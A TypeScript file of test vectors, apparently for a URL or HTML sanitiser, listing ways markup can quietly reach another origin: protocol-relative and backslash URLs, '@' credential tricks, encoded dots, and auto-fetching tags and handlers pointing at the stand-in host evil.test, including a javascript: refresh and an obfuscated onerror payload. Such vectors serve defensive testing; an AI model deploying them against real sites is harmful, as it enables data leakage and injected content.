/**
 * URLs that leave the page's origin without saying so: protocol-relative `//evil`, backslash and mixed-slash
 * forms that URL parsers normalise to `//`, credentials and `@` tricks, encoded dots, and the markup that fetches
 * such a URL by itself (images, preloads, pings, posters, backgrounds, refreshes).
 */
import type { Vector } from './vector.js';

export const protocolRelative: readonly Vector[] = [
  '§P§',
  '//evil.test/§ID§.png',
  '\\\\evil.test\\§ID§',
  '/\\evil.test/§ID§',
  '\\/evil.test/§ID§',
  'https:evil.test/§ID§',
  'https:/evil.test/§ID§',
  'https:\\\\evil.test/§ID§',
  '//evil.test@127.0.0.1/§ID§',
  'https://127.0.0.1@evil.test/§ID§',
  'https://127.0.0.1%2F@evil.test/§ID§',
  '//evil%2Etest/§ID§',
  '//evil\u3002test/§ID§',
  '//0x7f.0.0.1.evil.test/§ID§',
  '<img src=§P§>',
  '<img src="//evil.test/§ID§.png" referrerpolicy=unsafe-url>',
  '<img srcset="§P§ 1x, §U§ 2x">',
  '<link rel=prefetch href=§P§>',
  '<link rel=preload as=image href=§U§>',
  '<link rel=dns-prefetch href=§P§>',
  '<video poster=§P§></video>',
  '<input type=image src=§P§>',
  '<body background=§P§>',
  '<table background=§U§><tr><td>x</td></tr></table>',
  '<a href=§P§ ping=§U§>link with ping</a>',
  '<meta http-equiv=refresh content="0;url=§P§">',
  '<meta http-equiv=refresh content="0;url=javascript:§X§">',
  '<iframe src=§P§></iframe>',
  '<script src=§P§></script>',
  '<object data=§P§></object>',
  '<embed src=§U§>',
  '<audio src=§P§ autoplay></audio>',
  '<img src=x onerror=this.src=/§ID§/.source.replace(/^/,String.fromCharCode(47,47)+/evil.test/.source+String.fromCharCode(47))>',
];
